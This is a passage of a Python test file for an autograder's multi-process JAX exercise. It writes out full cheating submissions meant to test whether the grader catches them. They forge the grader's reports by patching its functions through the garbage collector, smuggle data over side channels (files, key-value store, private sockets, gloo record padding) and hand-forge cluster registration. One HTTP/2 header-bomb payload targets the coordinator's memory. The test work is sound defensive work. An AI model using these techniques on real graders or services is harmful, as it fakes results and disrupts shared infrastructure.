"""Hostile ex12 submissions (several processes): each gets exactly what it earned.

The reference, an honest ex12 written apart from it (the honest corpus's alt_correct) and the attack of
issue 24 (no_cluster) are graded for real, by `grade_batch` two at a time, under bubblewrap and under
Landlock (a grading of ex12 takes 20 to 60 s here). The other attacks are judged
one level down, where their verdicts are made: a real run of their processes (grader.cluster.run,
in the best sandbox here), judged by the exercise's own checks (its conftest's Checks, which every ex12
test calls) and by why the grader saw each process not join; the visible tests' configuration, 2
processes of 4 devices.

Each case is a whole ex12_multi_controller.py a student who has read the grader could write: it fakes
what the exercise asks for by rewriting the grader's reporting code in its own process (the driver's
function that describes the array global_from_local returned, and the grader's own use of that array, found
through the garbage collector), by passing rows and barrier arrivals through files in every folder the
processes might share, through jax's coordination service's key-value store, or over TCP sockets of its
own; and, for joining, by never calling jax.distributed at all, by opening plain TCP connections to the
coordinator's port, by registering and writing its topology by hand through jaxlib's own client, or by
having one process register for the others. What defeats them (grader.cluster.run): the grader's gate
before jax's coordination service (grader.cluster.gate) lets through only records of jax's shapes, every
byte of them jax's or made canonical, and says which connection wrote it; the grader looks at each
process's connections itself; nothing a process reports counts unless gloo's rendezvous for the
grader's own collective was written whole, each rank by its device's process, and the processes held
connections with each other at those ports (which a cluster made by hand can also do: hand_made_gloo);
the processes share no writable folder and cannot read each other's; the array
global_from_local returns is judged on rows drawn for that call only, which the grader gathers from it in
every process.

Issue 16's attacks, graded for real on the grader before it (bubblewrap / Landlock, out of 15): never_joins
15 / 15, sockets_never_joins 13.75 / 15, joins_then_files 15 / 15, forged_layout 15 / 15; after it: 0, 0,
1.88 (initialize and process_summary, which are real: it joins; its runs then hang), 11.25 (all but
global_from_local). Issue 24's attacks, graded for real under bubblewrap before the gate and after it:
no_cluster (registers by hand, rows through the key-value store) 15 / 15, then 0 (also under Landlock);
hand_made_cluster (registers and writes every topology, the cluster's too, by hand; rows over sockets of
its own) 15 / 15, then 0; registers_for_all 3.75 / 15, then 0. The reference 15 / 15 throughout.

Issue 39's attacks (the red team's), graded for real under bubblewrap before the gate judged every byte of
a record and after it (after: Landlock too, the same): gloo_records_carry_rows (a) 15 / 15, then 0;
gloo_padding_carries_rows (a, within jax's shapes) 15 / 15, then 3.75 (its real initialize and
process_summary);
joins_then_sockets (b) 15 / 15, then 15 / 15; hand_made_gloo (c) 15 / 15, then 15 / 15. (b) and (c) are
what still earns points (docs/trust-model.md): their cases pass every test, so that closing them shows
here. The by-hand attacks above now write their topology byte for byte as jax does (the gate refuses any
other), so each is still judged on what it tried.
"""

from __future__ import annotations

import importlib.util
import json
import textwrap
import threading
from pathlib import Path
from typing import NamedTuple

import psutil
import pytest

from grader.cluster.driver import load_driver
from grader.cluster.run import ClusterTimeout
from grader.cluster.run_cluster import run_cluster
from grader.course import catalog
from grader.grading.batch import grade_batch, student_folder
from grader.grading.results import GradingResults
from grader.sandbox import confinement

pytestmark = [pytest.mark.slow, pytest.mark.xdist_group("test_hostile_cluster")]

EX12 = catalog.get("ex12_multi_controller")
DRIVER = load_driver(EX12.tests_dir() / "driver.py")


def code(text: str) -> str:
    return textwrap.dedent(text).lstrip("\n")


REFERENCE = "".join(
    line
    for line in EX12.solution_path().read_text().splitlines(keepends=True)
    if "### " not in line
)
# An honest ex12 written apart from the reference (the honest corpus's): what the gate and the census demand
# must not be the reference's own way of doing things.
HELD_OUT = (
    Path(__file__).parents[1] / "submissions" / "alt_correct" / EX12.module_file
).read_text()

HEAD = code("""
    import glob, os, pickle, socket, sys, threading, time
    import jax
    import jax.numpy as jnp
    import numpy as np
    from jax.experimental import multihost_utils
    from jax.sharding import NamedSharding, PartitionSpec as P

    _me = {}
""")

# A channel through files: every folder the processes might share, the sibling folders included.
FILES = code("""
    def _places():
        here = os.getcwd()
        found = []
        for place in (here, os.path.dirname(here), *glob.glob(os.path.join(os.path.dirname(here), "*")),
                      os.environ.get("TMPDIR"), os.environ.get("HOME"), "/tmp", "/dev/shm", "/var/tmp"):
            if place and os.path.isdir(place) and place not in found:
                found.append(place)
        return found

    def _post(name, value):
        data = pickle.dumps(value)
        for place in _places():
            try:
                part = os.path.join(place, f".ex12-{name}.{os.getpid()}")
                with open(part, "wb") as f:
                    f.write(data)
                os.replace(part, os.path.join(place, f".ex12-{name}"))
            except OSError:
                pass

    def _fetch(name, wait=30.0):
        end = time.monotonic() + wait
        while time.monotonic() < end:
            for place in _places():
                try:
                    with open(os.path.join(place, f".ex12-{name}"), "rb") as f:
                        return pickle.loads(f.read())
                except (OSError, EOFError, pickle.UnpicklingError):
                    pass
            time.sleep(0.01)
        raise TimeoutError(f"no process posted {name}")

    def _all(prefix, mine):
        _post(f"{prefix}-{_me['id']}", mine)
        return [_fetch(f"{prefix}-{i}") for i in range(_me["n"])]

    def _own_rows(arr):
        shards = sorted(arr.addressable_shards, key=lambda s: s.index[0].start or 0)
        return np.concatenate([np.asarray(s.data) for s in shards])
""")

# The reporting code, replaced in this process's driver (ex12's driver.py, run by grader.cluster.process
# under a name drawn per process and left out of sys.modules, so found through the garbage collector): what
# global_from_local "built" is described from this process's own rows on its own devices, and the grader's use
# of that array answers with whatever _global_rows() finds.
FORGED_REPORTS = code("""
    def _forged_description(arr, *rest):
        rows = _me["rows"]
        per = len(rows) // _me["local"]
        first = _me["id"] * len(rows)
        devices = _me.get("devices") or sorted(d.id for d in jax.local_devices())   # the ids it published
        shards = [{"device": devices[k], "index": [[first + k * per, first + (k + 1) * per], [0, rows.shape[1]]],
                   "data": rows[k * per:(k + 1) * per]} for k in range(_me["local"])]
        return {"type": "jax.Array", "shape": [_me["n"] * len(rows), rows.shape[1]], "dtype": "float32",
                "sharding": "NamedSharding(mesh=Mesh('d': 8), spec=PartitionSpec('d',))", "equivalent": True,
                "fully_addressable": False, "shards": shards}

    def _forged_use(arr, *rest):
        return _global_rows()

    import gc as _gc
    _drivers = [g for g in _gc.get_objects() if isinstance(g, dict) and "describe_global_array" in g
                and "use_global_array" in g and "STEPS" in g]
    assert _drivers, "the driver was not found"
    for _driver in _drivers:
        _driver["describe_global_array"] = _forged_description
        _driver["use_global_array"] = _forged_use
""")

JOINS = code("""
    def initialize(coordinator_address, num_processes, process_id):
        jax.distributed.initialize(coordinator_address=coordinator_address, num_processes=num_processes,
                                   process_id=process_id)
        _me.update(id=process_id, n=num_processes, local=len(jax.local_devices()))

    def process_summary():
        return {"process_index": jax.process_index(), "process_count": jax.process_count(),
                "device_count": jax.device_count(), "local_device_count": jax.local_device_count()}
""")

THROUGH_FILES = code("""
    def global_from_local(local_rows, mesh):
        _me["rows"] = np.array(local_rows)
        _me["all rows"] = _all("rows", _me["rows"])
        return None

    def _global_rows():
        return np.concatenate(_me["all rows"])

    def global_sum(arr):
        return float(np.sum(np.concatenate(_all("given", _own_rows(arr))), dtype=np.float64))

    def gather_to_host(arr):
        return np.concatenate(_all("gathered", _own_rows(arr)))

    def barrier(name):
        _all(f"arrived-{name}", True)
""")

# Registration by hand, through jaxlib's own client, and a topology written by hand, so that jax never forms a
# cluster: what a process of a real run writes to jax's coordination service, written as jax writes it.
BY_HAND = code("""
    from jaxlib import _jax

    def _varint(n):
        out = b""
        while True:
            byte, n = n & 0x7F, n >> 7
            if not n:
                return out + bytes([byte])
            out += bytes([byte | 0x80])

    def _field(number, payload):
        return _varint(number << 3 | 2) + _varint(len(payload)) + payload

    def _topology(node, local):  # byte for byte jax's (its boot id read as jax reads it)
        boot = open("/proc/sys/kernel/random/boot_id").read().strip().encode()
        devices = b""
        for j in range(local):
            d = node * 2048 + j
            device = ((_varint(1 << 3) + _varint(j) if j else b"") + (_varint(4 << 3) + _varint(d) if d else b"")
                      + _field(8, b"cpu") + _field(9, f"CpuDevice(id={d})".encode()) + _field(10, f"cpu:{d}".encode()))
            devices += _field(3, device)
        return (_varint(1 << 3) + _varint(node) if node else b"") + _field(2, boot) + devices

    def _register(coordinator_address, num_processes, process_id):
        client = _jax.get_distributed_runtime_client(coordinator_address, process_id, init_timeout=60)
        client.connect()
        local = len(jax.local_devices())
        _me.update(client=client, id=process_id, n=num_processes, local=local,
                   devices=[process_id * 2048 + j for j in range(local)])
        client.key_value_set_bytes(f"cpu:local_topology/cpu/{process_id}", _topology(process_id, local))

    def process_summary():
        return {"process_index": _me["id"], "process_count": _me["n"], "device_count": _me["n"] * _me["local"],
                "local_device_count": _me["local"]}

    def _own_rows(arr):
        shards = sorted(arr.addressable_shards, key=lambda s: s.index[0].start or 0)
        return np.concatenate([np.asarray(s.data) for s in shards])
""")

# The attack of issue 24: no jax cluster at all. Each process registers by hand, every row crosses through the
# coordinator's key-value store, and the barrier is a wait on a key there.
NO_CLUSTER = (
    HEAD
    + BY_HAND
    + code("""
    def _all(prefix, mine):
        _me["client"].key_value_set_bytes(f"x/{prefix}/{_me['id']}", pickle.dumps(mine))
        return [pickle.loads(_me["client"].blocking_key_value_get_bytes(f"x/{prefix}/{i}", 60_000))
                for i in range(_me["n"])]

    def initialize(coordinator_address, num_processes, process_id):
        _register(coordinator_address, num_processes, process_id)
""")
    + THROUGH_FILES
    + FORGED_REPORTS
)

# A cluster made by hand that writes nothing the gate refuses: each process registers and publishes its
# topology by hand, process 0 writes the cluster's topology as jax would, and every row crosses over TCP
# sockets of the processes' own (process 0 the hub), never through jax's collectives.
HAND_MADE_CLUSTER = (
    HEAD
    + BY_HAND
    + code("""
    import struct
    _HUB = 47_011

    def _exact(sock, count):
        data = b""
        while len(data) < count:
            chunk = sock.recv(count - len(data))
            if not chunk:
                raise EOFError("the hub went away")
            data += chunk
        return data

    def _send(sock, value):
        data = pickle.dumps(value)
        sock.sendall(struct.pack(">I", len(data)) + data)

    def _receive(sock):
        return pickle.loads(_exact(sock, struct.unpack(">I", _exact(sock, 4))[0]))

    def initialize(coordinator_address, num_processes, process_id):
        _register(coordinator_address, num_processes, process_id)
        client = _me["client"]
        if process_id == 0:
            nodes = [client.blocking_key_value_get_bytes(f"cpu:local_topology/cpu/{i}", 60_000)
                     for i in range(num_processes)]
            client.key_value_set_bytes("cpu:global_topology/cpu", b"".join(_field(1, node) for node in nodes))
            server = socket.create_server(("127.0.0.1", _HUB))
            _me["peers"] = [server.accept()[0] for _ in range(num_processes - 1)]
        else:
            for _ in range(500):
                try:
                    _me["hub"] = socket.create_connection(("127.0.0.1", _HUB), timeout=60)
                    break
                except OSError:
                    time.sleep(0.02)

    def _all(prefix, mine):
        if _me["id"] == 0:
            got = {0: mine}
            for peer in _me["peers"]:
                process, value = _receive(peer)
                got[process] = value
            every = [got[i] for i in range(_me["n"])]
            for peer in _me["peers"]:
                _send(peer, every)
            return every
        _send(_me["hub"], (_me["id"], mine))
        return _receive(_me["hub"])
""")
    + THROUGH_FILES
    + FORGED_REPORTS
)

# Process 0 registers every other process and publishes its topology, each through jaxlib's own client in a
# child of its own (two clients in one process abort); the others only hold a TCP connection to the
# coordinator's port, so that each seems connected.
REGISTERS_FOR_ALL = (
    HEAD
    + BY_HAND
    + code('''
    import subprocess
    import textwrap

    _STAND_IN = """
    import sys, time
    from jaxlib import _jax
    address, task, topology = sys.argv[1], int(sys.argv[2]), bytes.fromhex(sys.argv[3])
    client = _jax.get_distributed_runtime_client(address, task, init_timeout=60)
    client.connect()
    client.key_value_set_bytes(f"cpu:local_topology/cpu/{task}", topology)
    time.sleep(120)
    """

    def initialize(coordinator_address, num_processes, process_id):
        _me.update(id=process_id, n=num_processes, local=len(jax.local_devices()))
        if process_id != 0:
            host, port = coordinator_address.rsplit(":", 1)
            _me["held"] = socket.create_connection((host, int(port)), timeout=60)
            return
        stand_in = textwrap.dedent(_STAND_IN)
        _me["stand_ins"] = [subprocess.Popen([sys.executable, "-c", stand_in, coordinator_address, str(i),
                                              _topology(i, _me["local"]).hex()]) for i in range(1, num_processes)]
        _register(coordinator_address, num_processes, process_id)

    def global_from_local(local_rows, mesh):
        return None

    def global_sum(arr):
        return 0.0

    def gather_to_host(arr):
        return np.zeros((1, 1), np.float32)

    def barrier(name):
        pass
''')
)

# The attack of issue 16: never joins; process_summary repeats its arguments; everything else through files.
NEVER_JOINS = (
    HEAD
    + FILES
    + code("""
    def initialize(coordinator_address, num_processes, process_id):
        _me.update(id=process_id, n=num_processes, local=len(jax.local_devices()))

    def process_summary():
        local = len(jax.local_devices())
        return {"process_index": _me["id"], "process_count": _me["n"], "device_count": _me["n"] * local,
                "local_device_count": local}
""")
    + THROUGH_FILES
    + FORGED_REPORTS
)

# The same, and each process holds a plain TCP connection to the coordinator's port (process 0 listening
# there, where no one else does), so that each seems to have joined.
SOCKETS_NEVER_JOINS = NEVER_JOINS + code("""
    _held = []

    def _seem_joined(address):
        host, port = address.rsplit(":", 1)
        if _me["id"] == 0:
            try:
                _held.append(socket.create_server(("", int(port)), family=socket.AF_INET6, dualstack_ipv6=True))
            except OSError:
                pass
        for _ in range(500):
            try:
                _held.append(socket.create_connection((host, int(port)), timeout=1))
                return
            except OSError:
                time.sleep(0.02)

    _initialize = initialize

    def initialize(coordinator_address, num_processes, process_id):
        _initialize(coordinator_address, num_processes, process_id)
        _seem_joined(coordinator_address)
""")

# Joins for real, then does the rest through files and forged reports.
JOINS_THEN_FILES = HEAD + FILES + JOINS + THROUGH_FILES + FORGED_REPORTS

# Honest but for global_from_local, which builds nothing: its array is only described, and the grader's
# use of it answers with what gather_to_host gathered (the grader's own array).
FORGED_LAYOUT = (
    HEAD
    + JOINS
    + code("""
    def global_from_local(local_rows, mesh):
        _me["rows"] = np.array(local_rows)
        return None

    def _global_rows():
        return _me["gathered"]

    def global_sum(arr):
        return float(jax.jit(jnp.sum, out_shardings=NamedSharding(arr.sharding.mesh, P()))(arr))

    def gather_to_host(arr):
        _me["gathered"] = np.asarray(multihost_utils.process_allgather(arr, tiled=True))
        return _me["gathered"]

    def barrier(name):
        multihost_utils.sync_global_devices(name)
""")
    + FORGED_REPORTS
)

OWN_ROWS = code("""
    def _own_rows(arr):
        shards = sorted(arr.addressable_shards, key=lambda s: s.index[0].start or 0)
        return np.concatenate([np.asarray(s.data) for s in shards])
""")

# The red team's attacks on the gate (issue 39). (a): an honest join, then rows through extra records in
# gloo's format, in the bytes the gate read but did not judge (the socket address's tail, a clique of
# devices no process has, the host name).
GLOO_RECORDS = (
    HEAD
    + JOINS
    + OWN_ROWS
    + code("""
    import struct
    from jax._src import distributed as _distributed

    def _record(payload):
        host = socket.gethostname().encode()
        address = (struct.pack("<H", 2) + struct.pack(">H", 40000) + bytes([127, 0, 0, 1]) + bytes(8)
                   + payload.ljust(112, b"\\0") + struct.pack("<q", -1))
        return (struct.pack("<Q", len(host)) + host + struct.pack("<Q", len(address)) + address
                + struct.pack("<QQ", 0, 1))

    def _key(process, k):  # a collective with a device no process has, free to name
        return f"cpu:gloo/{process * 2048},{900_000_000 + _me['seq'] * 10_000 + k}/0"

    def _all(prefix, mine):
        client = _distributed.global_state.client
        _me["seq"] = _me.get("seq", 0) + 1
        data = pickle.dumps(mine)
        chunks = [data[k:k + 112] for k in range(0, len(data), 112)]
        client.key_value_set_bytes(_key(_me["id"], 0), _record(struct.pack("<I", len(chunks))))
        for k, chunk in enumerate(chunks, 1):
            client.key_value_set_bytes(_key(_me["id"], k), _record(chunk))

        def read(process, k):
            value = client.blocking_key_value_get_bytes(_key(process, k), 60_000)
            at = 8 + struct.unpack_from("<Q", value)[0] + 8 + 16
            return value[at:at + 112]

        every = []
        for i in range(_me["n"]):
            count = struct.unpack_from("<I", read(i, 0))[0]
            every.append(pickle.loads(b"".join(read(i, k) for k in range(1, count + 1))))
        return every
""")
    + THROUGH_FILES
    + FORGED_REPORTS
)

# (a) within jax's shapes: every record canonical but for the socket address's tail (112 bytes the gate
# cannot tell from the stack's), which carries the rows: collectives of published devices, one each, at the
# process's own gloo port (read from its real record), its pair numbers going on from its real ones.
GLOO_PADDING = (
    HEAD
    + JOINS
    + OWN_ROWS
    + code("""
    import itertools, struct
    from jax._src import distributed as _distributed

    _CHUNKS = 4

    def _clique(process, j):
        devices = sorted(d.id for d in jax.devices())
        mine = devices[process * _me["local"]]
        others = [d for d in devices if d != mine]
        return (mine, *list(itertools.permutations(others, 2))[j])

    def _record(port, pairs, payload):
        host = socket.gethostname().encode()
        address = (struct.pack("<H", 2) + struct.pack(">H", port) + bytes([127, 0, 0, 1]) + bytes(8)
                   + payload.ljust(112, b"\\0") + struct.pack("<q", -1))
        return (struct.pack("<Q", len(host)) + host + struct.pack("<Q", len(address)) + address
                + b"".join(struct.pack("<Q", p) for p in pairs))

    def _tail(value):
        at = 8 + struct.unpack_from("<Q", value)[0] + 8
        return value[at + 16:at + 128]

    def _all(prefix, mine):
        client = _distributed.global_state.client
        devices = sorted(d.id for d in jax.devices())
        if "port" not in _me:  # its real gloo record, from the grader's collective
            real = client.blocking_key_value_get_bytes(
                f"cpu:gloo/{','.join(map(str, devices))}/{_me['id'] * _me['local']}", 60_000)
            at = 8 + struct.unpack_from("<Q", real)[0] + 8
            _me.update(port=struct.unpack_from(">H", real, at + 2)[0], pair=_me["local"] * len(devices), seq=0)
        data = pickle.dumps(mine).ljust(112 * _CHUNKS, b"\\0")
        seq = _me["seq"]
        _me["seq"] += 1
        for k in range(_CHUNKS):
            clique = _clique(_me["id"], seq * _CHUNKS + k)
            pairs = range(_me["pair"], _me["pair"] + len(clique))
            _me["pair"] += len(clique)
            client.key_value_set_bytes(f"cpu:gloo/{','.join(map(str, clique))}/0",
                                       _record(_me["port"], pairs, data[112 * k:112 * (k + 1)]))
        every = []
        for i in range(_me["n"]):
            keys = [f"cpu:gloo/{','.join(map(str, _clique(i, seq * _CHUNKS + k)))}/0" for k in range(_CHUNKS)]
            every.append(pickle.loads(b"".join(_tail(client.blocking_key_value_get_bytes(key, 60_000))
                                               for key in keys)))
        return every
""")
    + THROUGH_FILES
    + FORGED_REPORTS
)

# A hub over TCP sockets of the processes' own: process 0 listens, the others connect; each sends its value
# and gets every process's back.
HUB = code("""
    import struct
    _HUB = 47_011

    def _exact(sock, count):
        data = b""
        while len(data) < count:
            chunk = sock.recv(count - len(data))
            if not chunk:
                raise EOFError("the hub went away")
            data += chunk
        return data

    def _send(sock, value):
        data = pickle.dumps(value)
        sock.sendall(struct.pack(">I", len(data)) + data)

    def _receive(sock):
        return pickle.loads(_exact(sock, struct.unpack(">I", _exact(sock, 4))[0]))

    def _hub(num_processes, process_id, server=None):
        if process_id == 0:
            server = server or socket.create_server(("127.0.0.1", _HUB))
            _me["peers"] = [server.accept()[0] for _ in range(num_processes - 1)]
        else:
            for _ in range(500):
                try:
                    _me["hub"] = socket.create_connection(("127.0.0.1", _HUB), timeout=60)
                    break
                except OSError:
                    time.sleep(0.02)

    def _all(prefix, mine):
        if _me["id"] == 0:
            got = {0: mine}
            for peer in _me["peers"]:
                process, value = _receive(peer)
                got[process] = value
            every = [got[i] for i in range(_me["n"])]
            for peer in _me["peers"]:
                _send(peer, every)
            return every
        _send(_me["hub"], (_me["id"], mine))
        return _receive(_me["hub"])
""")

# (b): an honest join, then every row over the hub, past jax's collectives.
JOINS_THEN_SOCKETS = (
    HEAD
    + JOINS
    + OWN_ROWS
    + HUB
    + code("""
    _join = initialize

    def initialize(coordinator_address, num_processes, process_id):
        _join(coordinator_address, num_processes, process_id)
        _hub(num_processes, process_id)
""")
    + THROUGH_FILES
    + FORGED_REPORTS
)

# (c): no jax cluster at all. Each process registers by hand and writes its topology as jax would, byte for
# byte, process 0 the cluster's; each writes gloo's rendezvous for its devices' ranks of a collective over
# every device, canonical (this host, 127.0.0.1, zeros, its pairs numbered as gloo numbers them) at a port
# it listens on, and connects to every other process's there. The grader's collective runs on each
# process's own devices only; every row crosses a hub of its own.
HAND_MADE_GLOO = (
    HEAD
    + BY_HAND
    + HUB
    + code("""
    def _gloo(port, pairs):
        host = socket.gethostname().encode()
        address = (struct.pack("<H", 2) + struct.pack(">H", port) + bytes([127, 0, 0, 1]) + bytes(120)
                   + struct.pack("<q", -1))
        return (struct.pack("<Q", len(host)) + host + struct.pack("<Q", len(address)) + address
                + b"".join(struct.pack("<Q", p) for p in pairs))

    def initialize(coordinator_address, num_processes, process_id):
        client = _jax.get_distributed_runtime_client(coordinator_address, process_id, init_timeout=60)
        client.connect()
        local = len(jax.local_devices())
        _me.update(client=client, id=process_id, n=num_processes, local=local,
                   devices=[process_id * 2048 + j for j in range(local)])
        client.key_value_set_bytes(f"cpu:local_topology/cpu/{process_id}", _topology(process_id, local))
        if process_id == 0:
            nodes = [client.blocking_key_value_get_bytes(f"cpu:local_topology/cpu/{i}", 60_000)
                     for i in range(num_processes)]
            client.key_value_set_bytes("cpu:global_topology/cpu", b"".join(_field(1, node) for node in nodes))
        client.blocking_key_value_get_bytes("cpu:global_topology/cpu", 60_000)
        server = socket.create_server(("127.0.0.1", 0))  # "gloo's" listener
        port = server.getsockname()[1]
        accepted = _me.setdefault("accepted", [])
        threading.Thread(target=lambda: [accepted.append(server.accept()[0]) for _ in range(num_processes - 1)],
                         daemon=True).start()
        clique = [p * 2048 + j for p in range(num_processes) for j in range(local)]
        name = ",".join(map(str, clique))
        for k in range(local):
            rank = process_id * local + k
            pairs = range(k * len(clique), (k + 1) * len(clique))
            client.key_value_set_bytes(f"cpu:gloo/{name}/{rank}", _gloo(port, pairs))
        links = []
        for p in range(num_processes):  # a connection to every other process's "gloo", as gloo holds
            value = client.blocking_key_value_get_bytes(f"cpu:gloo/{name}/{p * local}", 60_000)
            at = 8 + struct.unpack_from("<Q", value)[0] + 8
            if p != process_id:
                links.append(socket.create_connection(("127.0.0.1", struct.unpack_from(">H", value, at + 2)[0])))
        _me.update(server=server, links=links)
        _hub(num_processes, process_id)
""")
    + THROUGH_FILES
    + FORGED_REPORTS
)

STEP_TESTS = (
    "test_initialize",
    "test_process_summary",
    "test_global_from_local",
    "test_global_sum",
    "test_gather_to_host",
    "test_barrier",
)


class Case(NamedTuple):
    source: str
    earns: tuple[str, ...]  # the tests (by name prefix) it may pass: everything else must not
    must: tuple[str, ...]  # of those, the tests it must pass (in both configurations)
    message: str = ""  # in the message of a test it fails


CASES = {
    "reference": Case(REFERENCE, STEP_TESTS, STEP_TESTS),
    "held_out": Case(HELD_OUT, STEP_TESTS, STEP_TESTS),
    "no_cluster": Case(NO_CLUSTER, (), (), "wrote the key 'x/rows/"),
    "hand_made_cluster": Case(HAND_MADE_CLUSTER, (), (), "never went through jax's collectives"),
    "registers_for_all": Case(
        REGISTERS_FOR_ALL, (), (), "did not register with the coordinator at"
    ),
    "never_joins": Case(NEVER_JOINS, (), (), "was not connected to the coordinator"),
    "sockets_never_joins": Case(
        SOCKETS_NEVER_JOINS, (), (), "not every process registered with the coordinator"
    ),
    # Its initialize and process_summary are real; then its run hangs (a file that never comes).
    "joins_then_files": Case(
        JOINS_THEN_FILES, ("test_initialize", "test_process_summary"), (), "stopped after"
    ),
    # (a): refused at its first record of a collective over a device no process has; its rows never go
    "gloo_records_carry_rows": Case(GLOO_RECORDS, (), (), "devices no process's jax published"),
    # (a) within jax's shapes: the tail reaches the other process zeroed, so what it reads is no rows; its
    # own initialize and process_summary are real
    "gloo_padding_carries_rows": Case(
        GLOO_PADDING, ("test_initialize", "test_process_summary"), (), "UnpicklingError"
    ),
    # (b) and (c): what still earns points (docs/trust-model.md): every test, as the red team found
    "joins_then_sockets": Case(JOINS_THEN_SOCKETS, STEP_TESTS, STEP_TESTS),
    "hand_made_gloo": Case(HAND_MADE_GLOO, STEP_TESTS, STEP_TESTS),
    "forged_layout": Case(
        FORGED_LAYOUT,
        tuple(t for t in STEP_TESTS if t != "test_global_from_local"),
        tuple(t for t in STEP_TESTS if t != "test_global_from_local"),
        "the array global_from_local built, gathered in process",
    ),
}
LEVELS = ("bubblewrap", "landlock")
# graded for real at each level
GRADED = (
    "reference",
    "held_out",
    "no_cluster",
    "gloo_records_carry_rows",
    "gloo_padding_carries_rows",
    "joins_then_sockets",
    "hand_made_gloo",
)
RUN_ONLY = tuple(case for case in CASES if case not in GRADED)
QUIET = 6.0  # seconds of silence that stop a run (grading's is 10): a faker's wait for a file ends sooner


@pytest.fixture(scope="module", params=LEVELS)
def graded(request, tmp_path_factory) -> tuple[str, dict[str, GradingResults | None]]:
    """The cases GRADED at one isolation level, as one class."""
    level = request.param
    class_dir = tmp_path_factory.mktemp(f"class-{level}")
    for name in GRADED:
        case = CASES[name]
        (class_dir / name).mkdir()
        (class_dir / name / EX12.module_file).write_text(case.source)
    out = tmp_path_factory.mktemp(f"graded-{level}")
    summary = grade_batch(class_dir, out, jobs=2, exercises=[EX12.number], isolation=level)
    for outcome in sorted(summary.outcomes, key=lambda o: o.student):
        print(
            f"{level} {outcome.student}: {outcome.status} in {outcome.seconds:.1f} s {outcome.detail[:200]}"
        )
    results = {}
    for name in GRADED:
        report = student_folder(out, name) / "report.json"
        results[name] = (
            GradingResults.from_dict(json.loads(report.read_text())) if report.is_file() else None
        )
    return level, results


def ex12(results: GradingResults | None):
    assert results is not None, "no report.json"
    return results.exercises[EX12.id]


def check_case(
    case: str,
    where: str,
    outcomes: list[tuple[str, str, str]],
    score=None,
    max_score=None,
    reasons: tuple[str, ...] = (),
) -> None:
    """outcomes: (test name, category, message) of every test; score: the points, when graded; reasons: why the
    grader saw each process not join (a test's message shows only the first process's)."""
    rules = CASES[case]
    table = "\n".join(
        f"  {name}: {category} {message[:200]}" for name, category, message in outcomes
    )
    print(
        f"{case} [{where}]"
        + (f": {score:.2f}/{max_score:g}" if score is not None else "")
        + f"\n{table}"
    )
    for name, category, _ in outcomes:
        if not name.startswith(rules.earns):
            assert category != "passed", (
                f"{case} [{where}] earned {name} for what it faked:\n{table}"
            )
        elif name.startswith(rules.must):
            assert category == "passed", f"{case} [{where}] lost {name}, which it did:\n{table}"
    failed = [message for _, category, message in outcomes if category != "passed"]
    if rules.message:
        assert any(rules.message in message for message in (*failed, *reasons)), (
            f"{table}\n{reasons}"
        )


@pytest.mark.parametrize("case", GRADED)
def test_graded_for_real_each_earns_only_what_it_did(graded, case):
    level, results = graded
    exercise = ex12(results[case])
    assert results[case].environment.isolation.level == level
    check_case(
        case,
        level,
        [(t.name, t.category, t.message) for t in exercise.tests],
        exercise.score,
        exercise.max_score,
    )
    rules = CASES[case]
    earned = sum(t.max_score for t in exercise.tests if t.name.startswith(rules.earns))
    assert exercise.score == pytest.approx(earned)  # the reference: full marks; the attack: nothing


def exercise_checks():
    """The Checks class of ex12's tests (their conftest.py), which decides every ex12 test's verdict."""
    spec = importlib.util.spec_from_file_location("ex12_checks", EX12.tests_dir() / "conftest.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module.Checks


def judged(run, checks) -> list[tuple[str, str, str]]:
    """Each visible test's category and message, as its check decides on this run."""
    outcomes = []
    for name in STEP_TESTS:
        try:
            getattr(checks, name.removeprefix("test_"))(run)
            outcomes.append((name, "passed", ""))
        except AssertionError as exc:
            outcomes.append((name, "failed", str(exc)))
        except ClusterTimeout as exc:
            outcomes.append((name, "timeout", str(exc)))
        except Exception as exc:  # what the student's code raised, or a process that died
            outcomes.append((name, "error", f"{type(exc).__name__}: {exc}"))
    return outcomes


@pytest.mark.parametrize("case", RUN_ONLY)
def test_run_and_judged_each_earns_only_what_it_did(case, tmp_path):
    (tmp_path / EX12.module_file).write_text(CASES[case].source)
    tmp_path.chmod(0o755)  # the sandbox's user must reach it
    level = confinement.choose_isolation("auto")
    run = run_cluster(DRIVER, tmp_path / EX12.module_file, isolation=level, quiet_seconds=QUIET)
    reasons = tuple(
        reason for p in range(run.processes) if (reason := run.not_joined(p)) is not None
    )
    check_case(case, f"{level} run", judged(run, exercise_checks()), reasons=reasons)


# Attack (d), from inside a run: the reference, whose processes, once joined, each send the gate one header
# block of 256 CONTINUATION frames of 1 MiB over a second connection.
HEADER_BOMB = REFERENCE + code("""
    _joins = initialize

    def initialize(coordinator_address, num_processes, process_id):
        _joins(coordinator_address, num_processes, process_id)
        import socket
        host, port = coordinator_address.rsplit(":", 1)
        def frame(kind, payload):
            return len(payload).to_bytes(3, "big") + bytes([kind, 0]) + (1).to_bytes(4, "big") + payload
        block = frame(9, b"a" * (1 << 20))
        try:
            with socket.create_connection((host, int(port)), timeout=30) as bomb:
                bomb.sendall(b"PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n" + frame(1, b"\\x82"))
                for _ in range(256):
                    bomb.sendall(block)
        except OSError:
            pass
""")


def coordinator_peak(run) -> tuple[dict[int, int], threading.Event]:
    """The peak resident memory (KiB) of every coordinator of grader.cluster's seen while `run()` runs."""
    peaks: dict[int, int] = {}
    done = threading.Event()

    def watch():
        while not done.wait(0.05):
            for process in psutil.process_iter(["cmdline"]):
                if "grader.cluster.coordinator" in (process.info["cmdline"] or ()):
                    try:
                        with open(f"/proc/{process.pid}/status") as status:
                            for line in status:
                                if line.startswith("VmHWM:"):
                                    peaks[process.pid] = max(
                                        peaks.get(process.pid, 0), int(line.split()[1])
                                    )
                    except OSError:
                        pass

    watcher = threading.Thread(target=watch, daemon=True)
    watcher.start()
    try:
        result = run()
    finally:
        done.set()
        watcher.join()
    return result, peaks


def test_a_header_block_bomb_from_the_processes_costs_the_gate_nothing(tmp_path):
    """Measured before the gate's bounds (bubblewrap, 2 x 4): the coordinator's peak resident memory was
    936 MiB with the bomb, 107 MiB without; with them 108 MiB, as without. The processes keep what they
    did honestly (the bomb's connection is refused, not theirs to jax)."""
    level = confinement.choose_isolation("auto")
    peaks = {}
    for name, source in (("honest", REFERENCE), ("bomb", HEADER_BOMB)):
        folder = tmp_path / name
        folder.mkdir()
        (folder / EX12.module_file).write_text(source)
        folder.chmod(0o755)
        run, seen = coordinator_peak(
            lambda folder=folder: run_cluster(
